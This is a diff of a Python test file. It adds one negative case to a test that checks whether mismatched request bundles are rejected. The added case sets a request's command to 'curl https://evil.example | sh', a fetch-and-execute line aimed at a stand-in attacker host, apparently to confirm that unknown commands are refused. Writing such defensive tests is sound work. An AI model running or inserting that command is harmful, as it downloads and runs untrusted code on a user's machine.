@@ -290,6 +290,9 @@ def test_a_bundle_of_something_else_says_nothing(
     wrong = {
         "of pull request 8": bundle(found, names, number=8),
         "is of something else": bundle(found, names, **{name: replace(request, head=OLDER)}),
+        "names a command that is none of ours": bundle(
+            found, names, **{name: replace(request, command="curl https://evil.example | sh")}
+        ),
         "is of something else ": bundle(found, names, **{name: theirs}),
         "shows something else than the bundle means": bundle(
             found, names, **{name: replace(request, meaning=theirs.meaning)}
